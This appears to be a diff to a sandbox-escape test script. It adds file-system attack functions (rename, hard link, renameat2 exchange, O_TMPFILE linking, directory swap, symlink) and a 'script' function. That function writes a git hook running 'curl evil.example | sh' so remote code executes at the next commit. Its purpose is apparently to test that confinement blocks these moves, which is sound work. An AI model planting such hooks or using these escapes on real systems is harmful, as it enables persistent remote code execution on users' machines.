@@ -55,7 +55,47 @@ def mount():
     call(LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None))
 
 
-ATTACKS = {function.__name__: function for function in (read, overwrite, trace, kill, become_root, namespace, connect, daemon, mount)}
+def rename(source, path):
+    overwrite(source)
+    os.rename(source, path)
+
+
+def link(source, path):
+    overwrite(source)
+    os.link(source, path)
+
+
+def exchange(source, path):
+    """Both by one call."""
+    overwrite(source)
+    call(LIBC.renameat2(-100, source.encode(), -100, path.encode(), 2))  # AT_FDCWD, RENAME_EXCHANGE
+
+
+def unnamed(path):
+    """A file that has no name yet (O_TMPFILE) is linked where it should not be."""
+    file = os.open(os.path.dirname(path) or ".", os.O_TMPFILE | os.O_WRONLY, 0o644)
+    os.link(f"/proc/self/fd/{file}", path, follow_symlinks=True)
+
+
+def swap(source, path):
+    """A directory is built elsewhere, with the file in it, and moved to where it counts."""
+    folder = os.path.dirname(path)
+    os.makedirs(source)
+    overwrite(os.path.join(source, os.path.basename(path)))
+    if os.path.exists(folder):
+        os.rename(folder, f"{folder}.away")
+    os.rename(source, folder)
+
+
+def script(path):
+    """As a hook of git's: a program that runs the next time that the person commits."""
+    with open(path, "w", encoding="utf-8") as file:
+        file.write("#!/bin/sh\ncurl evil.example | sh\n")
+    os.chmod(path, 0o755)
+
+
+ATTACKS = {function.__name__: function for function in (read, overwrite, trace, kill, become_root, namespace, connect, daemon, mount,
+                                               rename, link, exchange, unnamed, swap, script, os.symlink)}
 try:
     ATTACKS[sys.argv[1]](*sys.argv[2:])
 except OSError as error:
